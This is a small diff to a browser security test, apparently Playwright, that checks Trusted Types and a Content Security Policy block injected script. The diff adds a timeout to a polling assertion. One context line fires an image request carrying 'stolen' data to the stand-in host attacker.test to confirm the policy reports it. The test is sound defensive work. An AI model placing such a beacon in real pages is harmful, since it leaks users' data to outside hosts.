@@ -483,7 +483,7 @@ describe('what came from a target is text', () => {
     ])
       await expect(page.evaluate(`(() => { ${attempt} })()`)).rejects.toThrow(/Trusted/);
     await page.evaluate(`void (new Image().src = '//attacker.test/?stolen')`);
-    await expect.poll(() => complaints.join()).toMatch(/attacker\.test[\s\S]*img-src/);
+    await expect.poll(() => complaints.join(), { timeout: 10_000 }).toMatch(/attacker\.test[\s\S]*img-src/);
     expect(await page.evaluate('window.hacked')).toBeUndefined();
   });
 });
